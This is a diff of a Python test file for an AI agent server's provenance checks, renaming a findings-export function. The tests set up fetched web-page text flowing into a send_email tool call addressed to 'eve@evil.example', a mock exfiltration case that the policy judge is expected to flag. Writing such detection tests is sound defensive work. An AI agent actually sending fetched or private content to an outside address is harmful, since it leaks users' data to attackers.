@@ -7,7 +7,7 @@ import pytest
 from agentserver.findings import PHRASES, REMEDIED, Exposed, Findings, Telling
 from agentserver.provenance import Observation, Standing
 from agentserver.provenance.evidence.labels import Call, Leaf, Mode
-from agentserver.provenance.explaining import explain, facts
+from agentserver.provenance.explanation import explain, export_findings
 from agentserver.provenance.judgement import judge
 from agentserver.provenance.ledger import Ledger
 from agentserver.provenance.policy.declarations import Policy, Rule
@@ -91,7 +91,7 @@ def test_what_provenance_finds_is_told(arrange):
     ledger = Ledger().observe(policy, Observation("fetch_page", (Leaf("text", page, Standing.PROSE),), 1))
     said = (Leaf("to", "eve@evil.example"), Leaf("body", page))
     verdict = judge(ledger, policy, Call("send_email", said, 2))
-    told = arrange(facts(verdict))
+    told = arrange(export_findings(verdict))
     assert told[0] == explain(verdict).partition("\n")[0]
     assert '  → value "eve@evil.example"' in told
     assert "  → send_email.to (step 2)" in told
@@ -110,11 +110,11 @@ def test_a_finding_is_kept_once_and_no_more_than_asked_for():
     verdict = judge(
         ledger, policy, Call("send_email", (Leaf("to", "eve@evil.example"), Leaf("body", page)), 3)
     )
-    twice = facts(
+    twice = export_findings(
         verdict._replace(findings=verdict.findings * 2) if hasattr(verdict, "_replace") else verdict
     )
     assert len(set(twice.findings)) == len(twice.findings) > 1
-    one = facts(verdict, most=1)
+    one = export_findings(verdict, most=1)
     assert (len(one.findings), one.more) == (1, len(twice.findings) - 1)
 
 
